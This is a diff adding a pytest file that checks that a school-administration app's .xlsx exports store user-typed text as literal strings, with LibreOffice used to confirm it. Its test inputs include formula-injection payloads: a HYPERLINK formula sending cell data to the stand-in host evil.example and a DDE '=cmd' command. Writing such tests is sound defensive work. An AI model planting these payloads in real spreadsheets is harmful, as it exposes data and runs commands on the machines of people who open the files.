@@ -1,0 +1,98 @@
+"""Text users typed never becomes a live formula in the .xlsx exports (the clerk's list and
+the register): it is a string cell, and LibreOffice reads it back as the literal text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+from datetime import date
+
+import openpyxl
+import pytest
+
+from services.register import export_register
+from services.spreadsheets import export_submissions
+from storage.models import Document
+from storage.models import Submission
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _submissions() -> list[Submission]:
+    return [
+        Submission(
+            kind="commendation",
+            nominee_name=text,
+            position=text,
+            unit=text,
+            status="submitted",
+            data={"title": text},
+            decision_note=text,
+        )  # fmt: skip
+        for text in HOSTILE
+    ]
+
+
+def _documents() -> list[Document]:
+    return [
+        Document(
+            kind="ke_hoach",
+            number=index,
+            symbol="KH-THCSMT",
+            summary=text,
+            status="issued",
+            issued_date=date(2026, 2, 10),
+            header_fields={"signer_name": text},
+        )  # fmt: skip
+        for index, text in enumerate(HOSTILE, start=1)
+    ]
+
+
+EXPORTS = {
+    # name: (workbook bytes, first data row, columns holding typed text)
+    "submissions": lambda: (export_submissions(_submissions()), 2, (3, 4, 5, 6, 10)),
+    "register": lambda: (export_register(_documents(), 2026, "=1+1"), 3, (5, 6)),
+}
+
+
+@pytest.mark.parametrize("name", EXPORTS)
+def test_typed_text_is_written_as_text_not_formula(name):
+    content, first, columns = EXPORTS[name]()
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    for offset, text in enumerate(HOSTILE):
+        for column in columns:
+            cell = sheet.cell(row=first + offset, column=column)
+            assert isinstance(cell.value, str) and cell.value.strip() == text.strip()
+            assert cell.data_type == "s", (name, cell.coordinate, text)
+            assert cell.quotePrefix, (name, cell.coordinate)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+@pytest.mark.slow
+def test_libreoffice_shows_the_literal_text(tmp_path):
+    content, _first, _columns = EXPORTS["submissions"]()
+    source = tmp_path / "danh-sach.xlsx"
+    source.write_bytes(content)
+    converted = subprocess.run(
+        [
+            "soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
+            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",  # 76: UTF-8
+            "--outdir", str(tmp_path), str(source),
+        ],
+        capture_output=True, timeout=120,
+    )  # fmt: skip
+    if b"could not be loaded" in converted.stderr:
+        pytest.skip("LibreOffice Calc is not installed (Debian: libreoffice-calc-nogui)")
+    assert converted.returncode == 0, converted.stderr
+    rows = list(csv.reader((tmp_path / "danh-sach.csv").read_text(encoding="utf-8").splitlines()))
+    names = [row[2] for row in rows[1:]]
+    assert names[:5] == HOSTILE[:5]  # not "Bấm vào đây", not an error value
